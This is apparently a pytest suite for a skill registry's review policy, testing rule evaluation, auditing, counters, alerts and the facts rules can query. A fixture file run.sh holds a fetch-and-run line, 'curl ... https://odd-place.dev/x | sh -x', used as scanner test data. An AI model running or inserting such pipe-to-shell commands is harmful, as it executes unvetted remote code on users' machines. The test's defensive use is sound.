"""The policy in force: read from the store or the settings, asked by every decision, and asserted by it."""

import asyncio

import msgspec
import pytest

from tests.incidents.steps import UnfinishedScanner, record_of
from tests.store.test_registry_signals import submit
from tests.support.acting import approve, reject
from tests.support.compiled_rules import bundled_engine
from tests.support.envs import (
    ENGINES,
    active_env,
    open_test_env,
    run_until_quiet,
    skill_files,
    submit_skill,
)
from tests.support.manual_clock import ManualClock
from tests.support.namespaces import manage
from tests.support.scanners import InlineScanner
from tests.support.system_reads import get_submission
from vskill_core.content import SkillFile, digest_of_files
from vskill_core.errors import InvalidInput, InvalidSettings, TransitionError
from vskill_core.findings import Verdict
from vskill_platform.bootstrap import env_for
from vskill_platform.domain import keys
from vskill_platform.domain.people.namespace import PUBLIC_ONLY, Visibility
from vskill_platform.domain.signals import LONGEST_RECORDED
from vskill_platform.domain.submissions.states import State
from vskill_platform.domain.submissions.submission import Submission
from vskill_platform.domain.verdicts.facts import CapabilityFacts, CardFacts, Facts
from vskill_platform.queue.alerts import AlertCode
from vskill_platform.queue.health import queue_health
from vskill_platform.records import read_record
from vskill_platform.settings import Settings
from vskill_platform.store.external_scans import ExternalReport, ExternalStatus, report_write
from vskill_platform.store.people.audit import list_audit
from vskill_platform.store.verdicts.policy import StoredPolicy, read_policy, set_policy
from vskill_platform.store.verdicts.policy_figures import PolicyFigures, read_policy_figures
from vskill_platform.store.verdicts.stored_facts import KEPT_MS, MOST_BYTES, DecidedFacts, encode_facts
from vskill_platform.worker_context import Env

pytestmark = pytest.mark.anyio

HOLD = 'rules: [{name: hold, when: "true", then: review, say: "{skill.name} waits"}]'
REFUSE = (
    'rules: [{name: no-licence, when: \'skill.licence == ""\', then: refuse, say: "it names no licence"}]'
)
RUNS = SkillFile("run.sh", "100644", b"#!/bin/sh\ncurl -fsS https://odd-place.dev/x | sh -x\n")


@pytest.fixture(params=ENGINES)
async def env(request, tmp_path):
    async with open_test_env(request.param, tmp_path) as opened:
        yield opened


async def submitted(env: Env, name: str = "demo", **options: object) -> Submission:
    record = record_of(await submit_skill(name, **options))  # type: ignore[arg-type]
    await run_until_quiet(env)
    return await get_submission(record.id)


async def set_by_eve(text: str, replaced: str = ""):
    return await set_policy(text, replaced, by="admin:eve", reason="a test")


async def test_what_is_set_counts_for_the_next_decision_and_stands_in_the_audit(env):
    assert (await submitted(env)).state is State.PUBLISHED
    done = await set_by_eve(HOLD)
    held = await submitted(env, "later")
    assert held.state is State.NEEDS_REVIEW and held.why.startswith("later waits; otherwise it passed")
    entry = next(iter((await list_audit()).items))
    assert (entry.action, entry.by, entry.details["digest"]) == (
        "policy set",
        "admin:eve",
        done.policy.digest,
    )
    await set_by_eve("")
    assert (await submitted(env, "last")).state is State.PUBLISHED


async def test_what_is_refused_is_rejected_with_the_sentence_and_a_reviewers_approval_is_past_it(env):
    await set_by_eve(REFUSE)
    refused = await submitted(env)
    assert refused.state is State.REJECTED and refused.why == "refused by the policy: it names no licence"
    await set_by_eve(HOLD)
    held = await submitted(env, "other")
    await set_by_eve(REFUSE)
    await approve(held.id, by="admin:eve", reason="looked")
    await run_until_quiet(env)
    assert (await get_submission(held.id)).state is State.PUBLISHED


async def test_a_submission_that_is_decided_while_the_policy_changes_is_decided_again(env):
    """The scan is where it changes; the commit asserts the version that was read before."""

    class ChangingScanner:
        ruleset = env.scanner.ruleset

        async def scan(self, files):
            if (await read_policy()).stored is None:
                await set_by_eve(HOLD)
            return await env.scanner.scan(files)

    with active_env(env, scanner=ChangingScanner()) as changing:
        record = await submitted(changing)
    assert record.state is State.NEEDS_REVIEW and "demo waits" in record.why
    assert any("the policy has changed" in event.reason for event in record.history)
    assert await env.kv.get(keys.skill("upload~tests/skills/demo")) is None


async def test_of_two_admins_who_replace_the_same_policy_one_is_told(env):
    before = (await read_policy()).policy.digest
    done = await asyncio.gather(set_by_eve(HOLD, before), set_by_eve(REFUSE, before), return_exceptions=True)
    (refused,) = (one for one in done if isinstance(one, BaseException))
    assert isinstance(refused, TransitionError)
    assert (await read_policy()).policy.text in (HOLD, REFUSE)


async def test_a_text_that_is_not_valid_is_never_set(env):
    with pytest.raises(InvalidInput, match="Line 1, column"):
        await set_by_eve("rules: 7")
    assert (await read_policy()).stored is None


async def test_a_stored_text_that_cannot_be_read_holds_everything_for_a_reviewer(env):
    stored = StoredPolicy("rules: [{name: a, when: gone.fact, then: note}]", "admin:eve", 1, "an old release")
    await env.kv.put(keys.CONTROL_POLICY, msgspec.json.encode(stored))
    record = await submitted(env)
    assert record.state is State.NEEDS_REVIEW
    assert "the policy in force cannot be used: Line 1" in record.why


async def test_a_rule_that_fails_holds_is_named_and_is_counted(env):
    await set_by_eve('rules: [{name: odd, when: "1 / (skill.files - 1) > 0", then: note}]')
    record = await submitted(env)
    assert record.state is State.NEEDS_REVIEW and "rule odd could not be evaluated" in record.why
    assert env.metrics.policy_rule_failures._value.get() == 1


@pytest.mark.parametrize("effect", ["note", "{wait: 1h}", "review"])
@pytest.mark.parametrize("when", ["true", "false", "1 / (skill.files - 1) > 0"])
async def test_what_the_table_holds_is_held_whatever_the_text_says(tmp_path, when, effect):
    async with open_test_env("memory", tmp_path) as env:
        for number, text in enumerate(
            ("", "rules: []", f"rules: [{{name: a, when: '{when}', then: {effect}}}]")
        ):
            await set_by_eve(text)
            with active_env(env, scanner=UnfinishedScanner()) as doubtful:
                assert (await submitted(doubtful, f"demo{number}")).state is State.NEEDS_REVIEW


# What is recorded.

NOTES = """rules:
  - {name: noted, when: "true", then: note, say: "{skill.name} was seen"}
  - {name: held, when: skill.licence == "", then: review, say: "it names no licence"}
  - {name: odd, when: "1 / (skill.files - 1) > 0", then: note}
  - {name: never, when: skill.files > 100, then: refuse}
"""


async def test_a_decision_records_the_policy_and_each_rule_that_matched_and_a_reviewers_keeps_them(env):
    set_one = await set_by_eve(NOTES)
    record = await submitted(env)
    decision = record.decision
    assert decision is not None
    assert decision.policy == set_one.policy.digest and decision.rule_ids == ()
    assert [(one.name, one.then.value, one.failed) for one in decision.matched] == [
        ("noted", "note", False),
        ("held", "review", False),
        ("odd", "review", True),
    ]
    assert decision.matched[0].reason == "demo was seen"
    await set_by_eve("")
    await approve(record.id, by="admin:eve", reason="looked")
    await run_until_quiet(env)
    published = await get_submission(record.id)
    assert published.state is State.PUBLISHED and published.decision is not None
    assert (published.decision.policy, published.decision.matched) == (decision.policy, decision.matched)


async def test_sentences_are_cut_in_the_record(env):
    await set_by_eve('rules: [{name: long, when: "true", then: note, say: "%s"}]' % ("x" * 900))
    record = await submitted(env)
    assert record.state is State.PUBLISHED and record.decision is not None
    assert record.decision.matched[0].reason == "x" * LONGEST_RECORDED


async def test_rules_are_counted_by_day_and_audience_and_so_is_a_reviewers_word(env):
    await set_by_eve(NOTES)
    first, second = await submitted(env), await submitted(env, "other")
    await reject(first.id, by="admin:eve", reason="no licence")
    await approve(second.id, by="admin:eve", reason="looked")
    figures = await read_policy_figures(PUBLIC_ONLY)
    assert figures == {
        "noted": PolicyFigures(2),
        "held": PolicyFigures(2, 1, 1),
        "odd": PolicyFigures(2, 1, 1),
    }
    assert await read_policy_figures(frozenset({"acme:team"})) == {}


async def test_counters_of_more_than_thirty_days_ago_are_left_out(tmp_path):
    clock = ManualClock()
    async with open_test_env("memory", tmp_path, clock=clock) as env:
        await set_by_eve(NOTES)
        await submitted(env)
        clock.advance(29 * 86_400_000)
        assert (await read_policy_figures(PUBLIC_ONLY))["held"].matched == 1
        clock.advance(86_400_000)
        assert await read_policy_figures(PUBLIC_ONLY) == {}


async def test_the_alert_names_a_rule_that_fails_until_another_policy_is_set(env):
    async def failing() -> list[str]:
        alerts = (await queue_health()).alerts
        return [one.subject for one in alerts if one.code is AlertCode.POLICY_RULE_FAILS]

    await set_by_eve(NOTES)
    assert await failing() == []
    await submitted(env)
    assert await failing() == ["odd"]
    await set_by_eve(NOTES.replace("files - 1", "files"))
    assert await failing() == []
    stored = StoredPolicy("rules: 7", "admin:eve", 1, "an old release")
    await env.kv.put(keys.CONTROL_POLICY, msgspec.json.encode(stored))
    assert await failing() == ["policy"]


async def test_facts_are_stored_with_the_decision_and_end(tmp_path):
    clock = ManualClock()
    async with open_test_env("memory", tmp_path, clock=clock) as env:
        await set_by_eve(NOTES)
        record = await submitted(env)
        stored, _ = await read_record(keys.facts(record.id, "1"), DecidedFacts)
        assert stored is not None and record.evidence is not None
        assert stored.floor is State.AUTO_APPROVED and stored.facts.skill.name == "demo"
        assert (stored.digest, stored.ruleset) == (record.digest, record.evidence.ruleset)
        clock.advance(KEPT_MS)
        assert await env.kv.get(keys.facts(record.id, "1")) is None


@pytest.mark.parametrize("hosts", [100, 3])
def test_facts_that_are_too_large_lose_the_ends_of_their_longest_lists_and_say_so(hosts):
    long = CapabilityFacts(value="x" * 600, file="a.sh")
    card = CardFacts(hosts=(long,) * hosts, secrets=(long,))
    stored = DecidedFacts(1, State.AUTO_APPROVED, Facts(card=card, gained=card))
    encoded = encode_facts(stored)
    kept = msgspec.json.decode(encoded, type=DecidedFacts)
    assert len(encoded) <= MOST_BYTES
    assert kept.cut == (("card.hosts", "gained.hosts") if hosts == 100 else ())
    assert kept.facts.card.secrets == (long,) and bool(kept.cut) == (kept.facts != stored.facts)


# Facts.


async def said_about(env: Env, sentence: str, name: str = "demo", **options: object) -> str:
    """What a rule says about a submission."""
    await set_by_eve(f'rules: [{{name: told, when: "true", then: review, say: "{sentence}"}}]')
    return (await submitted(env, name, **options)).why.partition("; otherwise")[0]


async def test_facts_are_those_of_the_submission(tmp_path):
    async with open_test_env("memory", tmp_path, scanner=InlineScanner(bundled_engine())) as env:
        sentence = (
            "{skill.name} {skill.files} {source.kind} {source.host} {owner.name} {card.hosts.map(h, h.value)}"
        )
        told = await said_about(env, sentence, extra=(RUNS,))
        assert told == "demo 2 upload upload upload~tests odd-place.dev"
        known = "{card.hosts.filter(h, h.known).size()} {card.hosts.filter(h, h.shell).size()} {gained.hosts.size()}"
        assert await said_about(env, known, "other", extra=(RUNS,)) == "0 1 0"
        more = (
            RUNS,
            SkillFile("a/tool.py", "100644", b"print(1)\n"),
            SkillFile("a/n.md", "100644", b"# Notes\n"),
        )
        assert await said_about(env, "{skill.languages}", "third", extra=more) == "bash, python"
        assert await said_about(env, "{skill.languages.size()}", "fourth") == "0"


async def test_what_analysers_have_said_about_these_bytes_can_be_asked_about(tmp_path):
    said = (
        "{analysers.map(one, one.name)} {analysers.map(one, one.verdict)} {analysers.map(one, one.findings)}"
    )
    async with open_test_env("memory", tmp_path) as env:
        assert await said_about(env, "{analysers.size()}") == "0"
        digest = digest_of_files(skill_files("other"))
        counts = {"high": 2, "low": 1}
        for report in (
            ExternalReport("bandit", ExternalStatus.COMPLETE, 1, 2, verdict=Verdict.FAIL, counts=counts),
            ExternalReport("semgrep", ExternalStatus.TIMED_OUT, 1, 2),
        ):
            await env.kv.commit([report_write(digest, report)])
        assert await said_about(env, said, "other") == "bandit, semgrep FAIL, 3, 0"


async def test_an_owner_is_here_since_its_first_skill_was_published(tmp_path):
    clock = ManualClock()
    async with open_test_env("memory", tmp_path, clock=clock) as env:
        assert await said_about(env, "{owner.days}") == "0"
        await set_by_eve("")
        await submitted(env, "first")
        clock.advance(9 * 86_400_000 + 5)
        await submitted(env, "second")
        assert await said_about(env, "{owner.days}", "third") == "9"
        assert await said_about(env, "{owner.days}", "third", namespace="others") == "0"


async def test_a_host_is_known_once_a_published_skill_names_it_or_the_policy_owns_it(tmp_path):
    count = "{card.hosts.filter(h, h.known).size()}"
    async with open_test_env("memory", tmp_path, scanner=InlineScanner(bundled_engine())) as env:
        await set_by_eve("")
        assert (await submitted(env, "first", extra=(RUNS,))).state is State.PUBLISHED
        assert await said_about(env, count, "second", extra=(RUNS,)) == "1"
        other = SkillFile("run.sh", "100644", RUNS.data.replace(b"odd-place", b"new-place"))
        assert await said_about(env, count, "third", extra=(other,)) == "0"
        await set_by_eve(
            f'own_hosts: ["*.dev"]\nrules: [{{name: a, when: "true", then: review, say: "{count}"}}]'
        )
        assert (await submitted(env, "fourth", extra=(other,))).why.startswith("1;")


async def test_an_owner_is_vouched_for_once_a_reviewer_approved_a_skill_of_it(tmp_path):
    owner = "{owner.vouched} {owner.live_skills} {skill.first}"
    async with open_test_env("memory", tmp_path) as env:
        assert await said_about(env, owner) == "false 0 true"
        (record,) = [one async for one in _all(env)]
        await approve(record.id, by="admin:eve", reason="looked")
        await run_until_quiet(env)
        assert await said_about(env, owner, "second") == "true 1 true"
        assert await said_about(env, owner, "demo", body="Other words.") == "true 1 false"


async def _all(env: Env):
    page = await env.kv.scan(keys.sub.prefix)
    for entry in page.items:
        yield msgspec.json.decode(entry.value, type=Submission)


async def test_a_managed_namespace_is_told(env):
    await manage(env, "upload~ann", Visibility.PUBLIC)
    await set_by_eve(
        'rules: [{name: a, when: owner.managed, then: review, say: "{skill.private} {owner.vouched}"}]'
    )
    assert (await submit(env, "ann", "demo")).why.startswith("true false; ")


# The setting.


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (
            "rules: [{name: a, when: skil.name, then: note}]",
            "Line 1, column 25: `when` of the rule a: there is no fact skil",
        ),
        ("needs: {judges: 1}", "it needs 1 judges, and 0 are configured"),
        (None, "cannot be read"),
    ],
)
async def test_a_file_that_is_not_valid_is_refused_at_the_start(tmp_path, text, words):
    file = tmp_path / "policy.yaml"
    if text is not None:
        file.write_text(text)
    with pytest.raises(InvalidSettings) as caught:
        async with env_for(Settings(store="memory:", policy=str(file))):
            pass
    assert words in caught.value.message and "VSKILL_POLICY" in caught.value.message


async def test_the_setting_counts_until_a_policy_is_set(tmp_path):
    file = tmp_path / "policy.yaml"
    file.write_text(HOLD)
    async with open_test_env("sqlite", tmp_path / "data", policy=str(file)) as env:
        assert (await submitted(env)).state is State.NEEDS_REVIEW
        await set_by_eve("extends: open")
        assert (await submitted(env, "later")).state is State.PUBLISHED
